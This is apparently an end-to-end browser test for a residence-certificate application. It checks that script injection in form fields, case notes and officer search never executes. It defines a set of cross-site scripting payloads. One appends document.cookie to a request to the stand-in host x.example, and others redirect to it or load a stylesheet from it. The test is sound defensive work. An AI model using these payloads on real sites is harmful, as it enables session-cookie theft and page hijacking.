"""Scripts that somebody writes into boxes, opened in a real browser by everybody who reads them."""

from __future__ import annotations

from journeys.applicants import Written, an_applicant, domicile
from journeys.officer import OFFICER_OF_BARU, RETURN, TAKE_UP, Officer
from journeys.resident import SEND, Resident
from journeys.running_city import RunningCity
from journeys.visitor import PHONE, Arrivals, Visitor

SCRIPT = "<script>alert(1)</script>"
BREAK_OUT = "\"><script>fetch('//x.example/'+document.cookie)</script>"
PICTURE = "<img src=x onerror=alert(1)>"
CLOSED_BOX = "</textarea><svg onload=alert(1)>"
CLOSED_LIST = "</dd></dl><iframe srcdoc='<script>alert(1)</script>'>"
HANDLER = '" autofocus onfocus="alert(1)'
ELSEWHERE = "<link rel=stylesheet href=//x.example/a.css>"
LEAVE = "<meta http-equiv=refresh content='0;url=//x.example'>"
ALL = (SCRIPT, BREAK_OUT, PICTURE, CLOSED_BOX, CLOSED_LIST, HANDLER, ELSEWHERE, LEAVE)


def watch(visitor: Visitor) -> list[str]:
    """Every dialog that opens comes into the list."""
    opened: list[str] = []

    def close(dialog: object) -> None:
        opened.append(dialog.message)  # type: ignore[attr-defined]
        dialog.dismiss()  # type: ignore[attr-defined]

    visitor.page.on("dialog", close)
    return opened


def hostile() -> Written:
    return {
        **domicile(an_applicant()),
        "full_name": BREAK_OUT,
        "birth_place": SCRIPT,
        "occupation": PICTURE,
        "street": CLOSED_LIST,
    }


def talk(visitor: Visitor, box: str, words: str) -> None:
    """Write into a box and press the button of its form."""
    where = visitor.page.locator(box)
    where.fill(words)
    with visitor.page.expect_navigation():
        where.locator("xpath=ancestor::form").get_by_role("button").last.click()


def test_scripts_in_boxes_messages_and_notes_never_run(city: RunningCity, come: Arrivals) -> None:
    resident, officer = come(Resident, PHONE), come(Officer, PHONE)
    dialogs = [watch(resident), watch(officer)]
    resident.apply("surat-keterangan-domisili", hostile())
    assert PICTURE in resident.text()
    resident.press(SEND)
    case = resident.receipt()
    resident.look_up(case)
    talk(resident, "#note", CLOSED_BOX)
    officer.sign_in(OFFICER_OF_BARU)
    officer.open_case(case)
    talk(officer, "#write-note", HANDLER)
    talk(officer, "#note-note", ELSEWHERE)
    officer.press(TAKE_UP)
    officer.explain(RETURN, "Alasan lain", LEAVE, flagged=("street",))

    for words in ALL[:-1]:
        assert words in officer.text(), words
    resident.look_up(case)
    for words in (CLOSED_BOX, HANDLER, LEAVE):
        assert words in resident.text(), words
    resident.press("Perbaiki sekarang")
    assert resident.filled()["street"] == CLOSED_LIST
    resident.press("Kirim perbaikan")
    officer.open_case(case)
    for words in ALL:
        officer.open("/petugas")
        officer.page.locator("#cari").fill(words)
        officer.page.locator("#cari").press("Enter")
    assert dialogs == [[], []]
    for visitor in (resident, officer):
        assert visitor.complaints == []
        assert {url for url in visitor.requests if not url.startswith((city.url, "data:", "blob:"))} == set()
